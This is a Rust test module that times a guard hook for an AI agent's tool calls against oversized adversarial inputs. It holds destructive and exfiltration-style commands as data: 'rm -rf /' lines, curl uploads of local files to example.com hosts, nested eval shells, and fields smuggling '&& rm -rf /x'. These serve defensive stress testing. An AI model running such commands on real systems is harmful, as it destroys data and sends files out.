//! Calls that are made to take long: each is answered before anybody would notice.

use std::fs;
use std::time::Duration;

use serde_json::{Value, json};

use super::report::{Limit, Line};
use super::{Binaries, sample};
use crate::payloads;
use crate::scene::{Scene, Stage};

const ROUNDS: usize = 9;

/// How long an answer may take, the start of the hook included.
const LIMIT_MS: f64 = 50.0;

/// One call: its name, its tool and what the tool is given.
type Call = (&'static str, &'static str, Value);

/// Each of them by the best of some runs: what others do to the machine only takes time.
pub fn all(stage: &Stage, binaries: &Binaries<'_>) -> Result<Vec<Line>, String> {
    let scene = stage.scene("hostile", 100)?;
    scripts(&scene)?;
    calls()
        .into_iter()
        .map(|(name, tool, input)| {
            let stdin = scene.payload("hostile", &payloads::call(&scene.repo, tool, &input))?;
            let once = || {
                let input = fs::File::open(&stdin)
                    .map_err(|cause| format!("could not open `{}`: {cause}", stdin.display()))?;
                let mut command = scene.command(binaries.fixed);
                command.args(["hook", "claude"]).current_dir(&scene.repo).stdin(input);
                sample::time(&mut command)
            };
            let samples = (0..ROUNDS).map(|_| once()).collect::<Result<Vec<_>, _>>()?;
            let best = samples.iter().map(|sample| sample.wall).min().unwrap_or(Duration::ZERO);
            Ok(Line {
                what: format!("hostile: {name}"),
                found: best.as_secs_f64() * 1000.0,
                unit: " ms",
                limit: Some(Limit::AtMost(LIMIT_MS)),
                note: format!(
                    "{} KB, best of {ROUNDS}",
                    fs::metadata(&stdin).map_or(0, |meta| meta.len() / 1024)
                ),
            })
        })
        .collect()
}

/// Scripts that do thousands of things and run one another.
fn scripts(scene: &Scene) -> Result<(), String> {
    for number in 0..8 {
        let path = scene.repo.join(format!("s{number}.sh"));
        let text = format!("{}sh s{}.sh\n", "rm -f a/b; echo 1 > out\n".repeat(2500), (number + 1) % 8);
        fs::write(&path, text).map_err(|cause| format!("could not write `{}`: {cause}", path.display()))?;
    }
    Ok(())
}

fn calls() -> Vec<Call> {
    let bash = |name, command: String| (name, "Bash", json!({ "command": command }));
    let numbered = |count: usize, word: &dyn Fn(usize) -> String| (0..count).map(word).collect::<String>();
    let write = |name, line: &str, bytes: usize| {
        (name, "Write", json!({ "file_path": "src/large.js", "content": line.repeat(bytes / line.len()) }))
    };
    let code = "const key = process.env.TOKEN; // nothing to see here\n";
    let nested = |count: usize, open: &str, inner: &str, close: &str| {
        format!("{}{inner}{}", open.repeat(count), close.repeat(count))
    };
    vec![
        bash("removing 6,000 paths", format!("rm -f {}", numbered(6_000, &|n| format!("d{}/f{n} ", n % 97)))),
        bash("6,000 commands in a row", numbered(6_000, &|n| format!("echo {n}; "))),
        bash("3,000 guarded commands", numbered(3_000, &|n| format!("git checkout -- f{n}; "))),
        bash(
            "8,000 files checked out",
            format!("git checkout -- {}", numbered(8_000, &|n| format!("f{n} "))),
        ),
        bash("8,000 fields of a form", format!("curl {}https://h.example.com", "-F a=@b ".repeat(8_000))),
        bash("2,000 uploads", numbered(2_000, &|n| format!("curl -d @a{n} https://h{n}.example.com; "))),
        bash("a pipeline of 3,000", format!("cat a {}", "| sort ".repeat(3_000))),
        bash(
            "an array of 10,000",
            format!("a=({}); rm -f \"${{a[@]}}\"", numbered(10_000, &|n| format!("f{n} "))),
        ),
        bash("a here-document of 10,000 lines", format!("cat > x <<'E'\n{}E\n", "rm -rf /\n".repeat(10_000))),
        bash("a here-document as a script", format!("bash <<'E'\n{}E\n", "rm -f a b\n".repeat(6_000))),
        bash("variables that double", format!("a=xxxxxxxx; {}rm -f $a", "a=$a$a; ".repeat(40))),
        bash("braces that multiply", format!("rm -f {}", "{1..9}".repeat(12))),
        bash("globs that backtrack", format!("rm -f {}b", "*a".repeat(200))),
        bash("substitutions in substitutions", nested(2_000, "$(echo ", "x", ")")),
        bash("shells in shells", numbered(300, &|n| format!("bash -c 'eval \"sh -c \\\"echo {n}\\\"\"'; "))),
        bash("groups in groups", nested(3_000, "{ ", "rm -f a;", " }; ")),
        bash("functions that call one another", {
            let functions = numbered(500, &|n| format!("f{n}() {{ f{}; f{}; }}; ", n + 1, n + 2));
            format!("{functions}f0")
        }),
        bash("4,000 folders entered", format!("{}rm -f a", numbered(4_000, &|n| format!("cd d{n}; ")))),
        bash("one word of a megabyte", format!("echo '{}'", "x".repeat(1 << 20))),
        bash("code of 300 KB", format!("python3 -c '{}'", "import os; os.remove(\"a\")\n".repeat(11_000))),
        bash("scripts that run one another", numbered(8, &|n| format!("sh s{n}.sh; "))),
        bash("no quote at the end", format!("echo '{}", "a b; c $( ` ".repeat(20_000))),
        write("writing 4.5 MB", code, 4_500_000),
        write("writing 10 MB", code, 10_000_000),
        write("4.5 MB of addresses", "://", 4_500_000),
        write("4.5 MB of names of secrets", "API_KEY=\n", 4_500_000),
        write("4.5 MB of keys that only begin", "-----BEGIN PRIVATE KEY-----\n", 4_500_000),
        (
            "an edit of 2 MB",
            "Edit",
            json!({
                "file_path": "src/large.js", "old_string": "a b c\n".repeat(170_000), "new_string": "a b d\n".repeat(170_000),
            }),
        ),
        ("a patch of 20,000 files", "apply_patch", {
            let parts = numbered(20_000, &|n| format!("*** Add File: d{}/f{n}\n+x\n", n % 97));
            json!({ "command": format!("*** Begin Patch\n{parts}*** End Patch\n") })
        }),
        ("40,000 fields of a server's tool", "mcp__files__write", {
            let fields = (0..40_000).map(|n| (format!("path{n}"), json!(format!("/d{n}/f && rm -rf /x"))));
            Value::Object(fields.collect())
        }),
    ]
}
